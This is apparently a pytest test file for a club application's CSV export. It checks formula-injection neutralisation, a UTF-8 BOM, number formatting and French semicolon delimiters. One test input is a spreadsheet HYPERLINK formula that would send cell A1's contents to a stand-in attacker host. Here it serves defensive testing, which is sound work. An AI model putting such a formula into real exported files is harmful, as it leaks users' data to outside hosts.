"""The one CSV writer: formula cells neutralised, numbers kept, Excel's BOM and the language's delimiter."""
from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from clubapp.core import csvout


def read(body: bytes, delimiter: str = ",") -> list[list[str]]:
    assert body.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=delimiter))


@pytest.mark.parametrize("text", ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+33 4 70 00 00 00", "-2+3",
                                  "@SUM(A1:A9)", "\t=1+1", "\r=1+1"])
def test_text_that_a_spreadsheet_would_run_gets_a_quote(text):
    assert read(csvout.write(["Name"], [[text]]))[1] == ["'" + text]


@pytest.mark.parametrize("text", ["Anne Dupont", "Hôtel des Thermes", "a=b", "", " =1"])
def test_ordinary_text_is_unchanged(text):
    assert read(csvout.write(["Name"], [[text]]))[1] == [text]


def test_numbers_written_by_the_app_stay_numbers_even_negative():
    rows = read(csvout.write(["a", "b", "c", "d"], [[-3, Decimal("-12.50"), -0.5, None]]))
    assert rows[1] == ["-3", "-12.50", "-0.5", ""]


def test_french_uses_semicolons_and_crlf():
    """French Excel reads 1.50 as text: French decimals take a comma."""
    body = csvout.write(["Membre", "Montant"], [["=1", Decimal("1.50")]], "fr")
    assert body == "\ufeffMembre;Montant\r\n'=1;1,50\r\n".encode()
